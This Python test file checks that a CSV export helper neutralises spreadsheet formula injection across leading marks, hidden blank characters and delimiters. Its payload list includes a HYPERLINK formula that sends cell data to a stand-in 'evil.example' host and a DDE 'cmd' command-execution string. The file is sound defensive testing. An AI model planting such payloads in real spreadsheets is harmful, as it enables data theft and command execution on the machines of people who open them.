"""A table that somebody opens in a spreadsheet runs nothing, however its cells are parted."""

import csv
import io
import re
from time import process_time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from practice.web.tables import cell, table

BEGINNINGS = ["=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠"]
FORMULAS = [
    "1+1", 'HYPERLINK("https://evil.example/?"&A1)', "cmd|' /C calc'!A0", 'WEBSERVICE("//evil")',
    "SUM(1)*cmd|'x'!A0", "IMPORTXML(A1)", "-1", "A1;=1",
]  # fmt: skip
BEFORE = ["", " ", "  \t", "\n", "\u00a0", "\ufeff", "\u200b", "\u3000"]
MARKS = tuple("=+-@＝＋－＠\t\r\0")
BLANK = " \t\r\n\0\ufeff\u200b\u200c\u200d\u2060\u00a0\u3000\x0b\x0c"


def runs(found: str) -> bool:
    """Whether a spreadsheet might take a cell for a formula."""
    if re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", found):
        return False
    return found.startswith(MARKS) or found.lstrip(BLANK).startswith(MARKS)


def cells(content: bytes) -> list[str]:
    """Every cell that a spreadsheet would see which parts them by any of its usual marks."""
    text, found = content.decode("utf-8-sig"), []
    for mark in ",;\t":
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=mark):
            found += line
        # A program that knows nothing of quotation marks.
        for line in text.splitlines():
            found += line.split(mark)
    return found


@pytest.mark.parametrize("before", BEFORE)
@pytest.mark.parametrize("begins", BEGINNINGS)
def test_a_cell_is_no_formula(begins: str, before: str) -> None:
    for formula in FORMULAS:
        assert not runs(cell(f"{before}{begins}{formula}"))


@pytest.mark.parametrize("number", ["0", "7", "-3", "4.5", "-0.25", "2026", "+447911123456"])
def test_a_number_stays_a_number(number: str) -> None:
    assert cell(number) == number


@pytest.mark.parametrize("words", ["Rest a day or two", "a-b", "x = y", "Mr O'Neil", "", "3 + 4"])
def test_words_stay_as_they_are(words: str) -> None:
    assert cell(words) == words


@pytest.mark.parametrize("mark", [";", "\t", "\n"])
def test_what_parts_cells_elsewhere_begins_no_formula(mark: str) -> None:
    assert [one for one in cells(table(["Name"], [[f"Ann{mark}=1+1"]])) if runs(one)] == []


@pytest.mark.parametrize("typed", ["Ann\n\n=1+1", "Ann\n\r=1+1", "\r\n\t@x", "Ann;\t=1+1"])
def test_many_marks_in_a_row_begin_none_either(typed: str) -> None:
    assert [one for one in cells(table(["Name"], [[typed]])) if runs(one)] == []


@pytest.mark.parametrize("run", ["\n", "\r\n", "\t", " ", "; ", "\u200b"])
def test_a_long_run_of_one_mark_is_read_once(run: str) -> None:
    began = process_time()
    cell(f"{run * 20_000}x")
    assert process_time() - began < 1


def test_headings_are_cells_too() -> None:
    assert table(["=1+1"], []).decode("utf-8-sig") == "'=1+1\r\n"


@example("=1+1")
@example("a;＝1")
@example(" \r\n\t@x")
@given(st.text(alphabet=st.sampled_from("=+-@＝－;,\t\r\n\0 \"'aé1\u200b")))
def test_nothing_that_is_typed_becomes_one(typed: str) -> None:
    found = list(csv.reader(io.StringIO(table(["A"], [[typed]]).decode("utf-8-sig"), newline="")))
    assert not any(runs(one) for line in found for one in line)
    assert "".join(found[1]).replace("'", "") == typed.replace("'", "")
